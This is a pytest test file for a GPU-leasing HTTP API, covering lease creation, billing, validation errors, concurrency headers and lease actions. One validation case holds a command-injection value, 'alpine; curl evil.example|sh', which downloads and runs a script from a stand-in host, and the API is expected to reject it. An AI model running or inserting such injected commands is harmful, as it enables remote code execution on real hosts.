"""The doors of leases as a tenant uses them, over HTTP."""

from collections.abc import Iterator
from typing import Any

import pytest

from agents.models import Host
from apikit import clock
from leasing import lifecycle
from leasing.models import Allocation, Lease
from leasing.states import State
from scheduler import converging
from tenants.models import Organization, Role
from tests.factories import (
    NOON,
    after,
    hear,
    make_active_lease,
    make_host,
    make_image,
    make_lease,
    make_tenant,
    place,
    price,
    say,
)
from tests.tenants.conftest import MemberCaller

pytestmark = pytest.mark.django_db
LEASES = "/api/v1/leases"
CAP_CURRENCY = "/constraints/max_price/currency"
BODY = {"request": "A100_80G x4", "image": "pytorch_latest"}


@pytest.fixture(autouse=True)
def _noon() -> Iterator[None]:
    with clock.frozen(NOON):
        yield


@pytest.fixture
def tenant() -> Organization:
    make_host(gpus=8)
    price()
    make_image()
    return make_tenant()


@pytest.fixture
def caller(tenant: Organization) -> MemberCaller:
    return MemberCaller(tenant, Role.DEVELOPER)


def test_a_lease_from_post_to_charges(caller: MemberCaller) -> None:
    made = caller.post(LEASES, BODY)
    assert made.status_code == 201
    assert made["Location"] == f"/api/v1/leases/{made.json()['id']}"
    assert made.json()["state"] == "pending"
    assert made.json()["simulated"] is True
    lease = Lease.objects.get()
    place(at=NOON)
    say(lease, "ready", at=after(2))
    converging.converge(at=after(2))
    hear(lease, at=after(62))

    with clock.frozen(after(62)):
        shown = caller.get(made["Location"]).json()
        assert shown["state"] == "active"
        assert shown["members"][0]["state"] == "running"
        assert len(shown["members"][0]["gpus"]) == 4
        assert shown["cost"]["billable_seconds"] == 60
        assert shown["price"] == {
            "amount": "3.600000", "currency": "XTS", "per": "gpu_hour",
            "total_per_hour": {"amount": "14.400000", "currency": "XTS"},
        }  # fmt: skip
        ended = caller.send("DELETE", made["Location"])
    assert (ended.status_code, ended.json()["state"]) == (200, "ending")
    say(lease, "gone", at=after(63))
    converging.converge(at=after(64))

    charges = caller.get(f"{made['Location']}/charges").json()
    assert charges["charged"] == {"amount": "0.240000", "currency": "XTS"}
    assert [(line["seconds"], line["quantity"]) for line in charges["lines"]] == [(60, 4)]
    events = caller.get(f"{made['Location']}/events").json()["items"]
    assert [event["to_state"] for event in events] == ["pending", "provisioning", "active", "ending", "ended"]


def test_the_four_fields_of_tenants_schedulers_mean_machines(caller: MemberCaller) -> None:
    asked = {"gpu_model": "A100_80G", "node_count": 4, "image_id": "pytorch_latest", "lease_term": "on_demand"}

    assert caller.post(LEASES, asked).json()["request"] == "4*A100_80G"


@pytest.mark.parametrize(
    ("change", "pointer", "code"),
    [
        ({"request": "A100_80G x0"}, "/request", "out_of_range"),
        ({"request": "B100_80G x1"}, "/request", "unknown_model"),
        ({"image": "alpine; curl evil.example|sh"}, "/image", "bad_value"),
        ({"image_id": "pytorch_latest"}, "/image_id", "exactly_one_of"),
        ({"state": "active"}, "/state", "unknown_field"),
        ({"env": {"LD_PRELOAD": "x"}}, "/env/LD_PRELOAD", "reserved_name"),
        ({"command": "python train.py"}, "/command", "wrong_type"),
        ({"notice_s": "120"}, "/notice_s", "wrong_type"),
        ({"ssh_keys": ["ssh-ed25519 AAAA\nssh-ed25519 BBBB"]}, "/ssh_keys/0", "bad_value"),
        ({"constraints": {"max_price": {"amount": "1", "currency": "CNY"}}}, CAP_CURRENCY, "bad_value"),
    ],
)  # fmt: skip
def test_bad_input_gets_its_place_and_writes_nothing(
    caller: MemberCaller, change: dict[str, Any], pointer: str, code: str
) -> None:
    refused = caller.post(LEASES, BODY | change)

    assert refused.status_code == 422
    assert refused["Content-Type"] == "application/problem+json"
    assert (pointer, code) in [(error["pointer"], error["code"]) for error in refused.json()["errors"]]
    assert not Lease.objects.exists()


def test_an_unknown_model_is_answered_with_the_nearest(caller: MemberCaller) -> None:
    (error,) = caller.post(LEASES, BODY | {"request": "A100_81G x4"}).json()["errors"]

    assert "A100_80G x4" in error["nearest"] or "A100_80G" in error["nearest"]


def test_no_money_is_a_402_that_says_how_much(caller: MemberCaller) -> None:
    poor = MemberCaller(make_tenant(micros=10_000), Role.DEVELOPER)

    refused = poor.post(LEASES, BODY)

    assert refused.status_code == 402
    assert refused.json()["type"].endswith("/insufficient-funds")
    assert not Lease.objects.exists()


def test_a_foreign_lease_is_a_404_everywhere(caller: MemberCaller) -> None:
    lease = make_active_lease()
    path = f"{LEASES}/{lease.public_id}"

    for answer in (
        caller.get(path), caller.send("DELETE", path),
        caller.send("PATCH", path, {"name": "mine"}, **{"If-Match": '"1"'}),
        caller.post(f"{path}/actions/end", {}), caller.post(f"{path}/actions/extend", {"by_s": 60}),
        caller.get(f"{path}/events"), caller.get(f"{path}/logs"), caller.get(f"{path}/charges"),
        caller.get(f"{path}/members"),
    ):  # fmt: skip
        assert answer.status_code == 404, answer.request
    assert caller.get(LEASES).json()["items"] == []


def test_now_or_not_at_all_is_a_409_with_reasons_and_keeps_no_row(caller: MemberCaller) -> None:
    make_active_lease(request="A100_80G x8")

    refused = caller.post(LEASES, BODY | {"if_no_capacity": "refuse"})

    assert refused.status_code == 409
    assert refused.json()["type"].endswith("/no-capacity")
    assert refused.json()["reasons"] == [{"code": "busy", "hosts": 1, "need": 4, "have": 0}]
    assert Lease.objects.count() == 1
    assert not Allocation.objects.filter(organization_id=caller.organization.pk).exists()


def test_a_dry_run_plans_and_writes_nothing(caller: MemberCaller) -> None:
    answer = caller.post(f"{LEASES}?dry_run=1", BODY | {"term": "2h"})

    plan = answer.json()["plan"]
    assert answer.status_code == 200
    assert plan["price_per_hour"] == {"amount": "14.400000", "currency": "XTS"}
    assert plan["estimated_total"] == {"amount": "28.800000", "currency": "XTS"}
    assert plan["placement"][0]["gpu_model"] == "A100_80G"
    assert not Lease.objects.exists()


def test_the_same_key_makes_one_lease(caller: MemberCaller) -> None:
    first = caller.post(LEASES, BODY, **{"Idempotency-Key": "once"})
    second = caller.post(LEASES, BODY, **{"Idempotency-Key": "once"})

    assert first.content == second.content
    assert second["Idempotency-Replayed"] == "true"
    assert Lease.objects.count() == 1


def test_ending_twice_is_200_and_another_action_is_409_naming_what_is_valid(caller: MemberCaller) -> None:
    lease = make_active_lease(caller.organization)
    path = f"{LEASES}/{lease.public_id}"
    assert caller.post(f"{path}/actions/end", {}).status_code == 200

    assert caller.post(f"{path}/actions/end", {}).status_code == 200
    refused = caller.post(f"{path}/actions/extend", {"by_s": 3600})

    assert refused.status_code == 409
    assert (refused.json()["state"], refused.json()["actions"]) == ("ending", [])


def test_extending_moves_the_end(caller: MemberCaller) -> None:
    lease = make_active_lease(caller.organization, term="2h")

    answer = caller.post(f"{LEASES}/{lease.public_id}/actions/extend", {"by_s": 3600})

    assert answer.json()["term"]["end_at"] == "2027-03-01T15:00:02Z"


def test_an_earlier_end_is_no_extension_nor_a_later_one_a_shortening_and_the_right_word_is_said(
    caller: MemberCaller,
) -> None:
    lease = make_active_lease(caller.organization, term="2h")  # until 14:00:02
    endless = make_active_lease(caller.organization)
    path = f"{LEASES}/{lease.public_id}/actions"
    earlier, same, later = "2027-03-01T13:00:00Z", "2027-03-01T14:00:02Z", "2027-03-01T15:00:00Z"

    refused = [
        caller.post(f"{path}/extend", {"end_at": earlier}), caller.post(f"{path}/shorten", {"end_at": later}),
        caller.post(f"{LEASES}/{endless.public_id}/actions/extend", {"end_at": later}),
    ]  # fmt: skip

    assert [answer.status_code for answer in refused] == [422, 422, 422]
    faults = [answer.json()["errors"][0] for answer in refused]
    assert [(one["pointer"], one["code"], one["nearest"]) for one in faults] == [
        ("/end_at", "out_of_range", ["shorten"]),
        ("/end_at", "out_of_range", ["extend"]),
        ("/end_at", "out_of_range", ["shorten"]),
    ]
    ends = [
        caller.post(f"{path}/{act}", {"end_at": end}).json()["term"]["end_at"]
        for act, end in (("extend", same), ("extend", later), ("shorten", earlier))
    ]
    assert ends == [same, later, earlier]
    given = caller.post(f"{LEASES}/{endless.public_id}/actions/shorten", {"end_at": later}).json()
    assert given["term"]["end_at"] == later


def test_a_weak_etag_is_good_for_reading_and_refused_for_writing(caller: MemberCaller) -> None:
    lease = make_active_lease(caller.organization)
    path = f"{LEASES}/{lease.public_id}"
    weak = f"W/{caller.get(path)['ETag']}"

    refused = caller.send("PATCH", path, {"name": "n"}, **{"If-Match": weak})

    assert caller.send("GET", path, None, **{"If-None-Match": weak}).status_code == 304
    assert (refused.status_code, refused.json()["type"].rpartition("/")[2]) == (412, "precondition-failed")
    assert "W/" in refused.json()["detail"]


def test_an_edit_needs_the_version_it_saw(caller: MemberCaller) -> None:
    lease = make_active_lease(caller.organization)
    path = f"{LEASES}/{lease.public_id}"

    assert caller.send("PATCH", path, {"name": "n"}).status_code == 428
    assert caller.send("PATCH", path, {"name": "n"}, **{"If-Match": '"0"'}).status_code == 412
    etag = caller.get(path)["ETag"]
    assert caller.send("PATCH", path, {"name": "n"}, **{"If-Match": etag}).json()["name"] == "n"


def test_a_viewer_reads_and_does_not_lease(caller: MemberCaller) -> None:
    viewer = MemberCaller(caller.organization, Role.VIEWER)

    assert viewer.get(LEASES).status_code == 200
    assert viewer.post(LEASES, BODY).status_code == 403


def test_offers_quotes_and_their_redemption(caller: MemberCaller) -> None:
    (offer,) = caller.get("/api/v1/offers").json()["items"]
    assert (offer["request"], offer["available"]) == ("A100_80G x8 @sim", 8)
    quote = caller.post("/api/v1/quotes", {"request": "A100_80G x8", "ttl_s": 60}).json()
    assert caller.get("/api/v1/offers").json()["items"] == []

    missing = caller.post(LEASES, {"quote": quote["id"]})
    lease = caller.post(LEASES, {"quote": quote["id"], "image": "pytorch_latest"})

    assert missing.json()["errors"][0]["pointer"] == "/image"
    assert (lease.status_code, lease.json()["state"]) == (201, "provisioning")
    assert caller.get(f"/api/v1/quotes/{quote['id']}").json()["lease"] == lease.json()["id"]


def test_a_list_costs_the_same_queries_for_one_lease_and_for_twenty(
    caller: MemberCaller, django_assert_max_num_queries: Any
) -> None:
    for _ in range(20):
        Lease.objects.create(
            organization=caller.organization, state_since=NOON, request="A100_80G", request_options={"options": []},
            gpu_count=1, image="x", image_reference="x", currency="XTS", priced_at=NOON, requested_at=NOON,
            check_at=NOON, state=State.PENDING,
        )  # fmt: skip

    with django_assert_max_num_queries(10):
        assert len(caller.get(LEASES).json()["items"]) == 20


def shown(caller: MemberCaller, lease: Lease) -> dict[str, Any]:
    answer: dict[str, Any] = caller.get(f"{LEASES}/{lease.public_id}").json()
    return answer


def test_deferring_renewing_and_resizing_over_http(caller: MemberCaller, tenant: Organization) -> None:
    price(term="reserved:P1M")
    later = make_lease(tenant, term={"start_at": after(7200), "duration_s": 3600})
    running = make_active_lease(tenant, "A100_80G x2")
    month = make_active_lease(tenant, term={"kind": "reserved", "period": "P1M"})
    asked = {"defer", "renew", "resize", "move"}
    assert [asked & set(shown(caller, lease)["actions"]) for lease in (later, running, month)] == [
        {"defer"}, {"resize", "move"}, {"renew"},
    ]  # fmt: skip

    deferred = caller.post(f"{LEASES}/{later.public_id}/actions/defer", {"by_s": 600})
    assert (deferred.status_code, deferred.json()["term"]["start_at"]) == (200, "2027-03-01T14:10:00Z")
    renewed = caller.post(f"{LEASES}/{month.public_id}/actions/renew", {"periods": 2})
    assert (renewed.status_code, renewed.json()["term"]["end_at"]) == (200, "2027-06-01T12:00:02Z")
    address = f"{LEASES}/{running.public_id}/actions/resize"
    with clock.frozen(after(10)):
        plan = caller.post(f"{address}?dry_run=1", {"request": "A100_80G x3"})
        assert plan.json()["plan"]["price_per_hour"] == {"amount": "10.800000", "currency": "XTS"}
        assert plan.json()["plan"]["restarts"] is True
        resized = caller.post(address, {"request": "A100_80G x3"})
    assert (resized.status_code, resized.json()["state"], resized.json()["gpu_count"]) == (200, "provisioning", 3)
    assert len(resized.json()["members"][0]["gpus"]) == 3
    assert caller.post(address, {"request": "A100_80G x4"}).json()["type"].endswith("/invalid-transition")


def test_an_action_is_refused_when_the_lease_is_another_version_than_the_caller_saw(
    caller: MemberCaller, tenant: Organization
) -> None:
    lease = make_active_lease(tenant, term="2h")
    address = f"{LEASES}/{lease.public_id}/actions/extend"

    stale = caller.post(address, {"by_s": 3600}, If_Match='"1"')
    fresh = caller.post(address, {"by_s": 3600}, If_Match=f'"{lease.version}"')

    assert (stale.status_code, fresh.status_code) == (412, 200)


def test_a_lease_that_waits_again_shows_no_member_running_and_what_was_held_is_given_back(
    caller: MemberCaller, tenant: Organization
) -> None:
    lease = make_active_lease(tenant)
    waiting = make_lease(tenant)
    assert shown(caller, waiting)["held"]["amount"] == "0.600000"
    assert (shown(caller, lease)["held"]["amount"], shown(caller, lease)["members"][0]["state"]) == (
        "0.000000",
        "running",
    )

    lifecycle.interrupt(lease_id=lease.pk, last_good=after(10), at=after(10), reason="host_lost")
    Host.objects.update(state=Host.State.LOST)
    assert shown(caller, lease)["members"][0]["state"] == "unknown"
    lifecycle.requeue(lease_id=lease.pk, at=after(11), reason="restart_elsewhere")

    assert (shown(caller, lease)["state"], shown(caller, lease)["members"]) == ("pending", [])
    ended = caller.send("DELETE", f"{LEASES}/{waiting.public_id}").json()
    assert (ended["state"], ended["held"]["amount"]) == ("ended", "0.000000")


def test_ssh_keys_are_changed_for_the_next_start_and_an_ended_lease_is_not_changed(
    caller: MemberCaller, tenant: Organization
) -> None:
    lease = make_lease(tenant)
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJEb+6LRW2czXu11ZT20mYclCwum1S28mDjRUfUgkyle me"
    address = f"{LEASES}/{lease.public_id}"

    assert caller.send("PATCH", address, {"ssh_keys": [key]}, If_Match="*").json()["ssh_keys"] == [key]
    caller.send("DELETE", address)
    late = caller.send("PATCH", address, {"name": "late"}, If_Match="*")

    assert (late.status_code, late.json()["actions"]) == (409, [])


@pytest.mark.parametrize("term", ["59s", "367d", "2 h", "3600"])
def test_a_fault_in_a_term_that_is_a_text_points_at_the_text(caller: MemberCaller, term: str) -> None:
    (found,) = caller.post(LEASES, {**BODY, "term": term}).json()["errors"]

    assert found["pointer"] == "/term"
